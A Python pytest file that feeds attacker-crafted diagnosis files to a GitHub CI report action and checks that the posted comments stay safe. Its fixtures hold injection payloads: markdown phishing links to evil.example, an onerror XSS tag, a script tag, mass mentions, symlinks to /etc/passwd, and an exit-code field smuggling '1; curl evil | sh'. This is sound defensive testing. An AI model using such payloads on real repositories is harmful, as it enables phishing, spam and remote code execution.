"""Hostile diagnosis artifacts, through the public `report` path against the loopback GitHub API.

For a pull request from a fork, ci-matrix-report.yml (workflow_run, write token) reports diagnosis
files that the fork's own run uploaded: each one here is crafted by an attacker and put beside the
real diagnosis files of two real builds (tests/test_action_report.py: one passes, one fails with a
known failure). For every case the exact bodies posted are checked:

- rendered by cmark-gfm (GitHub's own markdown library): no link but those the base repository
  wrote (the run, its rules' references, the report's anchors), no HTML tag beyond the report's
  skeleton, no `@mention` or `#123` outside code, the sticky marker once, at the start;
- the real failure is still reported; a file that may say nothing leaves the comment exactly as it
  was without it, plus the line that names it as ignored;
- check run annotations carry only the base repository's rule text (or capped log lines).
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from ci_matrix.core import markdown as md
from ci_matrix.core.grid import anchor_name
from ci_matrix.core.matrix import plan
from ci_matrix.edges import files
from tests.github_api.server import ApiServer
from tests.test_action_report import (
    FAILING,
    KNOWN_RULE,
    MARKER,
    PASSING,
    Project,
    _comments,
    _env,
    _report,
    build_project,
)
from tests.tooling import missing_tool

try:
    import cmarkgfm
    from cmarkgfm.cmark import Options
except ImportError:  # pragma: no cover - the test extras install it
    cmarkgfm = None

RUN_URL = "https://github.com/acme/widgets/actions/runs/1234"
EVIL = "https://evil.example/phish"
ATTACK = f"``` </details> [Click]({EVIL}) <img src=x onerror=alert(1)> @octo-org/everyone #1 {MARKER} {EVIL}"
LEGEND_LINE = re.compile(r"^<sub>.*</sub>$", re.MULTILINE)
SKELETON = {"p", "h2", "h3", "h4", "a", "strong", "code", "pre", "ul", "li", "details", "summary", "sub", "table",
            "thead", "tbody", "tr", "th", "td"}
MENTION = re.compile(r"(?<![A-Za-z0-9`])@[A-Za-z0-9]|(?<![A-Za-z0-9&])#[0-9]")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    if cmarkgfm is None:
        missing_tool("cmarkgfm is not installed (pip install -e '.[test]')")
    return build_project(tmp_path_factory.mktemp("project"))


@dataclass(frozen=True)
class Posted:
    """What one report run posted and wrote."""

    comment: str
    summary: str
    text: str
    annotations: list[dict[str, Any]]
    step_summary: str


def _run(api: ApiServer, project: Project, tmp_path: Path, folder: Path) -> Posted:
    env = _env(api, project, tmp_path, diagnoses=str(folder))
    assert _report(env) == (0, "")
    [comment] = _comments(api)
    [run] = api.store.check_runs.values()
    summary = (tmp_path / "summary.md").read_text("utf-8")
    return Posted(comment, run.output["summary"], run.output["text"], run.annotations, summary)


def _real(project: Project, cell: str) -> dict[str, Any]:
    path = project.diagnoses / f"ci-matrix-diagnosis-{cell}" / f"{cell}.json"
    loaded: dict[str, Any] = json.loads(path.read_text("utf-8"))
    return loaded


# --- the safety oracle: what GitHub would render ---------------------------------------------


class _Rendered(HTMLParser):
    """Tags, links, anchors, comments and the text outside code of rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.hrefs: list[str] = []
        self.ids: list[str] = []
        self.comments: list[str] = []
        self.prose: list[str] = []  # text where GitHub would resolve mentions
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        found = dict(attrs)
        if tag == "a":
            assert set(found) in ({"href"}, {"id"}), f"unexpected link attributes {found}"
            self.hrefs += [found["href"] or ""] if "href" in found else []
            self.ids += [found["id"] or ""] if "id" in found else []
        else:
            assert tag in ("pre", "code") or not found, f"<{tag}> with attributes {found}"
        self._code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        if not self._code:
            self.prose.append(data)


def _render(markdown: str) -> _Rendered:
    html = cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
    parsed = _Rendered()
    parsed.feed(html)
    parsed.close()
    return parsed


def _base_links(project: Project) -> set[str]:
    """The run, the references of the base repository's rules, the anchors of its plan's cells."""
    loaded = files.load_project(project.manifest)
    cells = plan(loaded.manifest, loaded.rules, files.catalog(), "pull_request").cells
    references = {md.url(r) or "" for rule in loaded.rules for r in rule.references}
    return {RUN_URL} | references | {f"#{anchor_name(c.id)}" for c in cells}


def assert_safe(markdown: str, project: Project) -> None:
    """No link, tag, comment or mention in `markdown` that the base repository did not write."""
    rendered = _render(markdown)
    assert rendered.tags <= SKELETON, rendered.tags - SKELETON
    allowed = _base_links(project)
    assert all(f"#{i}" in allowed for i in rendered.ids)
    strangers = [h for h in rendered.hrefs if h not in allowed]
    assert strangers == []
    assert rendered.comments in ([], [MARKER[4:-3]])
    prose = "".join(rendered.prose)
    assert MENTION.findall(prose) == [], prose
    assert EVIL not in prose and "evil.example" not in "".join(rendered.hrefs)


def assert_still_reported(posted: Posted) -> None:
    """The real known failure is in the grid (linked to its entry) and in the comment."""
    assert posted.comment.startswith(MARKER) and posted.comment.count(MARKER) == 1
    assert f"[❌](#{anchor_name(FAILING)})" in posted.comment
    assert f'<a id="{anchor_name(FAILING)}"></a>**`{FAILING}`**' in posted.comment
    assert f"`{KNOWN_RULE}` IREE CPU compiles need the llvm-cpu backend flag" in posted.comment


def assert_posted_safely(posted: Posted, project: Project) -> None:
    for markdown in (posted.comment, posted.summary, posted.text, posted.step_summary):
        assert_safe(markdown, project)
    for note in posted.annotations:
        assert note["title"].split(": ", 1)[0] in (FAILING, PASSING)
        assert EVIL not in note["title"] and "\x1b" not in note["message"]
        assert all(len(line) <= md.LINE_LIMIT for line in note["message"].splitlines())


# --- the cases ---------------------------------------------------------------------------------

Craft = Callable[[Path, Project], str]  # writes the hostile file(s); returns the name the report shows


def _write(folder: Path, name: str, record: Any) -> str:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record), "utf-8")
    return name


def _failing_with(change: Callable[[dict[str, Any]], None]) -> Craft:
    """The real failing cell's file, one field changed in place."""

    def craft(folder: Path, project: Project) -> str:
        record = copy.deepcopy(_real(project, FAILING))
        change(record)
        return _write(folder, f"ci-matrix-diagnosis-{FAILING}/{FAILING}.json", record)

    return craft


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(record: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target: Any = record
        for key in parents:
            target = target[int(key)] if key.isdigit() else target[key]
        target[last] = value

    return change


def _extra(name: str, record: Any) -> Craft:
    return lambda folder, project: _write(folder, name, record(project) if callable(record) else record)


def _raw(name: str, data: bytes) -> Craft:
    def craft(folder: Path, project: Project) -> str:
        (folder / name).write_bytes(data)
        return name

    return craft


def _symlink(name: str, target: str) -> Craft:
    def craft(folder: Path, project: Project) -> str:
        (folder / name).symlink_to(target if target.startswith("/") else folder / target)
        return name

    return craft


def _fifo(folder: Path, project: Project) -> str:
    os.mkfifo(folder / "pipe.json")
    return "pipe.json"


def _nan_exit_code(folder: Path, project: Project) -> str:
    text = json.dumps(_real(project, FAILING)).replace('"exit-code": 1', '"exit-code": NaN')
    (folder / "nan.json").write_text(text, "utf-8")
    return "nan.json"


def _cell_record(project: Project, cell: str) -> dict[str, Any]:
    return {**_real(project, PASSING), "cell": cell}


# Fields a file may carry but the report never takes from it: the comment is exactly the same.
IGNORED_FIELDS = {
    "title": _set("findings.0.title", ATTACK),
    "explanation": _set("findings.0.explanation", ATTACK),
    "fix": _set("findings.0.fix", ATTACK),
    "references": _set("findings.0.references", [f"https://ok) [Click]({EVIL}", EVIL]),
    "domain": _set("findings.0.domain", ATTACK),
    "log-before-after-captures": _set("findings.0.log", {
        "line": 2, "end-line": 2, "before": [ATTACK], "after": [ATTACK], "captures": {"x": ATTACK}, "count": 1,
        "text": 'model.mlir:0:0: error: device alias "local" does not provide any executable targets; '
                "ensure device-specific compilation backends have been specified"}),
    "hint": _set("hint", ATTACK),
    "log-path": _set("log", ATTACK),
    "tools": _set("tools", {"iree-compile": ATTACK}),
    "warnings": _set("warnings", [ATTACK]),
    "setup": _set("setup", [ATTACK]),
    "classified": _set("classified", False),
    "huge-exit-code": _set("exit-code", 10**300),
}

# Files the report must leave out and name, with the reason it gives.
DROPPED: dict[str, tuple[Craft, str]] = {
    "cell-id-injection": (_extra("a.json", lambda p: _cell_record(p, f"x` [pwn]({EVIL}) `")),
                          "its cell does not run in this repository's plan"),
    "cell-outside-the-plan": (_extra("b.json", lambda p: _cell_record(p, "model-linux-arm64-iree-llvm-cpu")),
                              "its cell does not run in this repository's plan"),
    "empty-cell": (_extra("c.json", lambda p: _cell_record(p, "")), "its cell does not run in this repository's plan"),
    "duplicate-cell": (_extra(f"zz/{FAILING}.json", lambda p: {**_real(p, FAILING), "outcome": "passed"}),
                       "a second diagnosis of a cell already reported"),
    "too-large": (_raw("huge.json", b" " * (1024 * 1024 + 1)), "larger than 1 MiB"),
    "invalid-utf8": (_raw("bad.json", b'{"cell": "\xff\xfe"}'), "not UTF-8"),
    "deeply-nested": (_raw("deep.json", b"[" * 100_000 + b"]" * 100_000), "not JSON (or nested too deeply)"),
    "not-json": (_raw("text.json", b"@octo-org/everyone [x](https://evil.example)"), "not JSON (or nested too deeply)"),
    "empty-file": (_raw("empty.json", b""), "not JSON (or nested too deeply)"),
    "nan-exit-code": (_nan_exit_code, "does not match schemas/diagnosis.schema.json (properties/exit-code/type)"),
    "top-level-array": (_extra("list.json", [ATTACK]), "does not match schemas/diagnosis.schema.json (type)"),
    "outcome-enum": (_extra("enum.json", lambda p: {**_real(p, FAILING), "outcome": ATTACK}),
                     "does not match schemas/diagnosis.schema.json (properties/outcome/enum)"),
    "exit-code-string": (_extra("code.json", lambda p: {**_real(p, FAILING), "exit-code": "1; curl evil | sh"}),
                         "does not match schemas/diagnosis.schema.json (properties/exit-code/type)"),
    "extra-property": (_extra("extra.json", lambda p: {**_real(p, FAILING), "html": ATTACK}),
                       "does not match schemas/diagnosis.schema.json (additionalProperties)"),
    "symlink-to-a-secret": (_symlink("passwd.json", "/etc/passwd"), "a symbolic link"),
    "symlink-to-a-real-file": (_symlink("again.json", f"ci-matrix-diagnosis-{FAILING}/{FAILING}.json"),
                               "a symbolic link"),
    "symlinked-folder": (_symlink("elsewhere", "/etc"), "a symbolic link"),
    "fifo": (_fifo, "not a regular file"),
    "not-a-json-file": (_raw("README.md", f"{ATTACK}".encode()), "not a .json file"),
    "hostile-file-name": (_extra(f"[Click]({EVIL.replace('/', '_')}) @octo-org `x` <img src=x>.json", [1]),
                          "does not match schemas/diagnosis.schema.json (type)"),
    "file-name-not-utf8": (_raw(os.fsdecode(b"\xff\xfe@octo-org.json"), b"[1]"),
                           "does not match schemas/diagnosis.schema.json (type)"),
    "newline-in-file-name": (_extra("\n## pwned\n@everyone.json", [1]),
                             "does not match schemas/diagnosis.schema.json (type)"),
}


def _baseline(github_api: ApiServer, project: Project, tmp_path: Path) -> Posted:
    (tmp_path / "baseline").mkdir()
    posted = _run(github_api, project, tmp_path / "baseline", project.diagnoses)
    github_api.store.comments.clear()
    github_api.store.check_runs.clear()
    return posted


def _hostile(project: Project, tmp_path: Path, craft: Craft) -> tuple[Path, str]:
    folder = tmp_path / "hostile"
    shutil.copytree(project.diagnoses, folder)
    return folder, craft(folder, project)


def _with_ignored(baseline: str, name: str, reason: str) -> str:
    note = f"⚠️ 1 diagnosis file was ignored: {md.code(md.capped(name, 120))} ({md.text(reason)})."
    legend = LEGEND_LINE.search(baseline)
    assert legend is not None
    return baseline.replace(legend.group(0), f"{legend.group(0)}\n\n{note}", 1)


@pytest.mark.parametrize("field", list(IGNORED_FIELDS))
def test_a_field_the_report_never_takes_from_a_file_changes_nothing(
    github_api: ApiServer, project: Project, tmp_path: Path, field: str
) -> None:
    baseline = _baseline(github_api, project, tmp_path)
    folder, _ = _hostile(project, tmp_path, _failing_with(IGNORED_FIELDS[field]))
    posted = _run(github_api, project, tmp_path, folder)
    assert posted.comment == baseline.comment
    assert (posted.summary, posted.text, posted.annotations) == (baseline.summary, baseline.text, baseline.annotations)
    assert_posted_safely(posted, project)


@pytest.mark.parametrize("case", list(DROPPED))
def test_a_file_that_may_not_be_used_is_ignored_and_named(
    github_api: ApiServer, project: Project, tmp_path: Path, case: str
) -> None:
    baseline = _baseline(github_api, project, tmp_path)
    craft, reason = DROPPED[case]
    folder, name = _hostile(project, tmp_path, craft)
    posted = _run(github_api, project, tmp_path, folder)
    assert posted.comment.splitlines() == _with_ignored(baseline.comment, name, reason).splitlines()
    assert posted.annotations == baseline.annotations
    assert_posted_safely(posted, project)
    assert_still_reported(posted)


# --- files the report uses, with attacker text where only log text may go ----------------------


def _log_text(text: str) -> Craft:
    return _failing_with(_set("findings.0.log.text", text))


def _unclassified(tail: list[str]) -> Craft:
    """The passing cell's file, claiming an unclassified failure with this log tail."""

    def craft(folder: Path, project: Project) -> str:
        record = {**_real(project, PASSING), "outcome": "failed", "exit-code": 2, "classified": False,
                  "tail": tail, "hint": ATTACK}
        return _write(folder, f"ci-matrix-diagnosis-{PASSING}/{PASSING}.json", record)

    return craft


def _findings(rules: list[str]) -> Craft:
    def change(record: dict[str, Any]) -> None:
        record["findings"] = [{**record["findings"][0], "rule": r, "title": ATTACK} for r in rules]

    return _failing_with(change)


def _flood(folder: Path, project: Project) -> str:
    for i in range(10_000):
        (folder / f"{i:05d}.json").write_text(f'{{"cell": "{ATTACK}"}}', "utf-8")
    return ""


BIDI = "\u202e\x1b[31m\x00\r"
LOG_TEXT = {
    "fence-breakout": (_log_text(f"```\n{ATTACK}\n````\n~~~\n</details>"), "`\u200b`"),
    "long-fence": (_log_text("`" * 50 + ATTACK), "``\u200b``"),
    "marker-and-html": (_log_text(f"{MARKER}<script>alert(1)</script>"), "<!\u200b-- ci-matrix:report -->"),
    "control-and-bidi": (_log_text(f"error{BIDI}ok"), "error\ufffd\ufffd[31m\ufffd\n"),
    "a-200-kB-line": (_log_text("x" * 200_000), "x" * (md.LINE_LIMIT - 1) + "…"),
    "unclassified-tail": (_unclassified([ATTACK, "```", "</details><details open>", "@here"]), "@here"),
    "5000-tail-lines": (_unclassified([f"line {i} {ATTACK}" for i in range(5_000)]), "line 4999 "),
    "unknown-rule-id": (_findings(["iree`](https://evil.example) `"]), "1 finding named a rule"),
    "unknown-then-known": (_findings(["no-such-rule", KNOWN_RULE]), "1 finding named a rule"),
    "500-findings": (_findings([KNOWN_RULE, "rustc-ice", *["qgemm-needs-sm80"] * 498]), "also matched: `rustc-ice`"),
    "10000-files": (_flood, "; 9,980 more."),
}


@pytest.mark.parametrize("case", list(LOG_TEXT))
def test_log_text_reaches_only_code_blocks_it_cannot_close(
    github_api: ApiServer, project: Project, tmp_path: Path, case: str
) -> None:
    craft, shown = LOG_TEXT[case]
    folder, _ = _hostile(project, tmp_path, craft)
    posted = _run(github_api, project, tmp_path, folder)
    assert_posted_safely(posted, project)
    assert shown in posted.comment
    if case not in ("unknown-rule-id", "unknown-then-known"):  # those leave the cell unclassified
        assert_still_reported(posted)
    assert len(posted.comment) < 65_536 and len(posted.summary) < 65_535


def test_an_unknown_rule_leaves_the_cell_unclassified_without_a_word_from_the_file(
    github_api: ApiServer, project: Project, tmp_path: Path
) -> None:
    folder, _ = _hostile(project, tmp_path, _findings(["iree`](https://evil.example) `"]))
    posted = _run(github_api, project, tmp_path, folder)
    assert "1 of 2 cells failed (0 known, 1 unclassified)" in posted.comment
    assert f"[❓](#{anchor_name(FAILING)})" in posted.comment
    assert "evil" not in posted.comment and ATTACK not in posted.comment
    assert [n["title"] for n in posted.annotations] == [f"{FAILING}: unclassified failure"]


def test_ten_thousand_files_cannot_crowd_out_the_real_ones(
    github_api: ApiServer, project: Project, tmp_path: Path
) -> None:
    folder, _ = _hostile(project, tmp_path, _flood)
    posted = _run(github_api, project, tmp_path, folder)
    assert_still_reported(posted)
    assert "⚠️ 10,000 diagnosis files were ignored: `00000.json` (does not match" in posted.comment
    assert "; 9,980 more." in posted.comment  # 20 named, the rest counted


@pytest.mark.parametrize("unsafe", [
    f"- **`x` [pwn]({EVIL}) ``**",  # the issue's cell id in the old report's code span
    f"- [1](https://ok) [Click]({EVIL})",  # the issue's reference in the old report's link
    "- why: ping @octo-org/everyone",  # the issue's mention
    "<details open><img src=x></details>",
    f"see {EVIL}",
])
def test_the_oracle_refuses_what_the_old_report_posted(project: Project, unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(unsafe, project)


def test_a_fence_breakout_in_the_log_line_is_posted_exactly_as_inert_text(
    github_api: ApiServer, project: Project, tmp_path: Path
) -> None:
    baseline = _baseline(github_api, project, tmp_path)
    folder, _ = _hostile(project, tmp_path, _log_text(f"```\n{ATTACK}\n````\n~~~\n</details>\n6th line"))
    posted = _run(github_api, project, tmp_path, folder)
    real = _real(project, FAILING)["findings"][0]["log"]["text"]
    inert = ATTACK.replace("```", "``\u200b`").replace("<!--", "<!\u200b--")
    hostile = "\n".join(f"    {line}" for line in ["``\u200b`", inert, "``\u200b``", "~~~", "</details>"])
    assert posted.comment == baseline.comment.replace(f"    {real}\n", f"{hostile}\n")  # 5 lines at most
    assert posted.annotations == baseline.annotations
